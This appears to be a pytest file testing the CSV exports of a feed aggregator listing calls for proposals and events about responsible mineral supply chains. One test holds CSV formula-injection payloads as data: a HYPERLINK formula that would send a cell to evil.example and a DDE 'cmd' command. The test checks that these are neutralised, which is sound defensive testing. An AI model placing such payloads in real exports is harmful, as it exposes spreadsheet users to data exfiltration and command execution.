"""calls.csv and events.csv: what a spreadsheet or another system reads."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from aggregator.exports import write_exports
from aggregator.types import EventDates, SourceRef
from tests.test_render import NOW, make_config, make_item, sample_items


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # plain UTF-8, no byte-order mark
    assert b"\r\n" in raw  # RFC 4180 line ends
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))


def test_calls_csv_lists_the_open_calls_closing_soonest_first(tmp_path: Path) -> None:
    write_exports(sample_items(), make_config(tmp_path), now=NOW)
    rows = read_csv(tmp_path / "calls.csv")
    assert list(rows[0]) == [
        "title", "partners", "url", "deadline", "status", "opens", "language", "kind",
    ]  # fmt: skip
    titles = [row["title"] for row in rows]
    assert titles[0] == "Request for abstracts: cobalt traceability"  # closes today
    assert "Call for consultants: Great Lakes Region mapping" not in titles  # closed
    assert not any("Forthcoming" in title for title in titles)  # not open yet
    call = next(r for r in rows if r["title"].startswith("Call for proposals: artisanal"))
    assert call["partners"] == "OECD; IMPACT"
    assert call["deadline"] == "2027-06-23"
    assert call["status"] == "open"
    assert call["url"] == "https://oecd.example/en/call-for-proposals"  # as the feeds link it
    assert call["kind"] == "call"
    french = next(r for r in rows if r["language"] == "fr")
    assert french["title"] == "Appel à propositions : diligence raisonnable dans l'or artisanal"
    undated = next(r for r in rows if r["title"].startswith("Expressions of interest"))
    assert (undated["deadline"], undated["status"]) == ("", "rolling")


def test_events_csv_lists_the_upcoming_events(tmp_path: Path) -> None:
    write_exports(sample_items(), make_config(tmp_path), now=NOW)
    rows = read_csv(tmp_path / "events.csv")
    assert rows == [
        {
            "title": "Webinar: OECD Forum on Responsible Mineral Supply Chains",
            "partners": "Unlisted partner",
            "url": "https://partner.example/event",
            "start": "2027-06-15",
            "end": "2027-06-17",
            "online": "true",
            "language": "en",
        }
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(
    tmp_path: Path, start: str
) -> None:
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    items = [
        make_item(
            "formula-call",
            kind="call",
            title=formula,
            deadline=date(2027, 6, 30),
            sources=(SourceRef(f"{start}cmd|' /C calc'!A0", "https://partner.example/"),),
        ),
        make_item(
            "formula-event",
            kind="event",
            title=formula,
            event=EventDates(date(2027, 6, 15), date(2027, 6, 15), None),
        ),
    ]
    write_exports(items, make_config(tmp_path), now=NOW)
    (call,) = read_csv(tmp_path / "calls.csv")
    assert call["title"] == "'" + formula
    assert call["partners"] == f"'{start}cmd|' /C calc'!A0"
    (event,) = read_csv(tmp_path / "events.csv")
    assert event["title"] == "'" + formula
    assert event["online"] == ""  # both or not said


def test_a_title_with_commas_quotes_and_line_breaks_stays_one_cell(tmp_path: Path) -> None:
    title = 'Call "ASM", gold;\nand cobalt'
    items = [make_item("c", kind="call", title=title, deadline=date(2027, 6, 30))]
    write_exports(items, make_config(tmp_path), now=NOW)
    (row,) = read_csv(tmp_path / "calls.csv")
    assert row["title"] == 'Call "ASM", gold; and cobalt'
